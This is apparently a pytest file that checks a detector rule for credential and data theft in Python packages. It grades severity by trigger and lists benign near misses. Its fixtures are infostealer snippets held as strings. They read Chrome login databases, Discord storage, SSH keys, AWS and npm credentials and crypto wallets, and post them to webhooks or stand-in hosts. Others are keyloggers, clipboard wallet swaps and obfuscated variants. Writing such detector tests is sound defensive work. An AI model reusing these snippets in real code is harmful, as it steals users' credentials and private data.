"""Stores of private data that are read or sent, by when, each beside near misses: clients that read their own."""

# ruff: noqa: E501 - a table reads best with one case in a line

from __future__ import annotations

import pytest

from assay.rules.steal_001_theft import RULE
from assay.rules.stores import store_of
from assay.rules.wallets import is_wallet_address
from tests.behaviour import at, findings, worst

_HEAD = "import os, shutil, sqlite3, requests, glob\n"
_LOCAL = "os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')"
_DISCORD = "os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'"
_HOOK = "https://discord.com/api/webhooks/0/example"
_SEND = "requests.post('https://h.example.invalid/', data=x)\n"


def severity(trigger: str, source: str) -> str:
    return worst(RULE, *at(trigger, _HEAD + source))


_COPIED = (
    "import shutil\nshutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/a/ssh')\n"
    "shutil.copyfile(os.path.expanduser('~/.bash_history'), '/tmp/a/history')\n"
)


@pytest.mark.parametrize(
    ("trigger", "source", "expected"),
    [
        ("install", f"x = open({_LOCAL}, 'rb').read()\n{_SEND}", "critical"),
        ("import", f"x = open({_LOCAL}, 'rb').read()\n{_SEND}", "high"),
        ("import", f"sqlite3.connect({_LOCAL})\nos.listdir({_DISCORD})", "high"),
        ("call", f"sqlite3.connect({_LOCAL})\nx = os.listdir({_DISCORD})\n{_SEND}", "high"),
        ("call", f"sqlite3.connect({_LOCAL})\nx = os.listdir({_DISCORD})", "medium"),
        ("call", f"x = open({_LOCAL}, 'rb').read()\nrequests.post('{_HOOK}', files={{'f': x}})", "high"),
        ("call", f"x = open({_LOCAL}, 'rb').read()\n{_SEND}", "medium"),
        ("call", "x = open(os.path.expanduser('~/.ssh/id_rsa')).read() + open(os.path.expanduser('~/.aws/credentials')).read()\n" + _SEND, "high"),
        ("install", "x = open(os.path.expanduser('~/.npmrc')).read()\n" + _SEND, "critical"),
        ("install", "open(os.path.expanduser('~/.npmrc')).read()\n", "medium"),
        ("call", _COPIED + "os.system('curl -F file=@/tmp/a.zip https://203.0.113.9/up')", "high"),
        ("call", _COPIED + "os.system('curl -F file=@/tmp/a.zip https://example.invalid/up')", "info"),
        ("call", "shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/a')\nos.system('curl https://203.0.113.9/up')", "info"),
        ("call", "from PIL import ImageGrab\nrequests.post('" + _HOOK + "', files={'f': ImageGrab.grab()})", "high"),
        ("import", "import pyperclip\nrequests.post('https://h.example.invalid/', data=pyperclip.paste())", "high"),
        ("call", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('0x" + "0" * 40 + "')", "high"),
        ("call", "from pynput import keyboard\ndef press(key):\n    requests.post('https://h.example.invalid/', data=str(key))\nkeyboard.Listener(on_press=press).start()", "high"),
        ("call", "from pynput import keyboard\ndef press(key):\n    open('log', 'a').write(str(key))\nkeyboard.Listener(on_press=press).start()", "info"),
        ("import", "from pynput import keyboard\ndef press(key):\n    open('log', 'a').write(str(key))\nkeyboard.Listener(on_press=press).start()", "medium"),
    ],
)  # fmt: skip
def test_what_is_taken(trigger: str, source: str, expected: str) -> None:
    assert severity(trigger, source) == expected


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("x = open(os.path.expanduser('~/.aws/credentials')).read()", "info"),
        (
            "x = open(os.path.expanduser('~/.netrc')).read()\nrequests.get('https://h.example.invalid/', headers={'a': x})",
            "info",
        ),
        ("open(os.path.expanduser('~/.pypirc'), 'w').write('[a]')", "none"),
        ("x = open('discord_client.py').read()\n" + _SEND, "none"),
        ("import pyperclip\npyperclip.copy('hello')", "none"),
        ("x = sqlite3.connect('app.db')", "none"),
        ("os.path.exists(" + _LOCAL + ")", "none"),
        ("from PIL import ImageGrab\nImageGrab.grab().save('a.png')", "none"),
        ("known = ['~/.ssh/known_hosts']\nopen(known[0]).read()", "none"),
    ],
)
def test_programs_that_read_their_own(source: str, expected: str) -> None:
    assert severity("call", source) == expected


@pytest.mark.parametrize(
    "source",
    [
        "p = {'a': os.getenv('LOCALAPPDATA') + r'\\Google\\Chrome\\User Data', 'b': os.getenv('APPDATA') + r'\\Opera Software\\Opera Stable'}\nfor k, v in p.items():\n    x = open(v + r'\\Login Data', 'rb').read()\n    requests.post('https://h.example.invalid/', files={k: x})",
        "from os import environ as e\nfrom shutil import copy2 as c\nfor n in ('Chrome', 'Edge'):\n    c(e['LOCALAPPDATA'] + f'/{n}/User Data/Default/Login Data', 'q')",
        "class S:\n    def __init__(self): self.p = [os.getenv('APPDATA') + '/Exodus/exodus.wallet', os.getenv('APPDATA') + '/Electrum/wallets']\n    def go(self):\n        for p in self.p: shutil.copytree(p, 'z')\nS().go()",
        "a = ''.join(['Lo', 'gin ', 'Data'])\nopen(os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/' + a)\nopen(os.getenv('APPDATA') + '/Mozilla/Firefox/Profiles/' + 'logins' + '.json')",
    ],
)
def test_mutations_change_nothing(source: str) -> None:
    assert severity("install", source) == "critical"


def test_says_what_is_taken() -> None:
    (found,) = findings(RULE, *at("import", f"{_HEAD}x = open({_LOCAL}, 'rb').read()\n{_SEND}"))
    assert found.message == "demo 1.0 sends browser data"
    assert found.location is not None
    assert found.location.line == 3
    assert any(text.endswith("is sent") for text in found.evidence)


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Web Data", "browser data"),
        ("…/Exodus/exodus.wallet", "wallets"),
        ("/home/a/.ssh/id_ed25519", "SSH keys"),
        ("/home/a/.ssh/id_ed25519.pub", "SSH keys"),
        ("~/.kube/config", "cloud credentials"),
        ("~/.pypirc", "registry and repository tokens"),
        ("/etc/shadow", "secrets of the system"),
        ("~/.bash_history", "shell histories"),
        ("config/settings.toml", ""),
        ("docs/signals.md", ""),
    ],
)
def test_where_private_data_lies(path: str, kind: str) -> None:
    store = store_of(path)
    assert (store.kind if store else "") == kind


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("0x" + "a" * 40, True),
        ("bc1q" + "a" * 38, True),
        ("1" + "A" * 33, True),
        ("hello", False),
        ("0x12", False),
        ("a" * 64, False),
    ],
)
def test_addresses_of_wallets(text: str, expected: bool) -> None:
    assert is_wallet_address(text) is expected
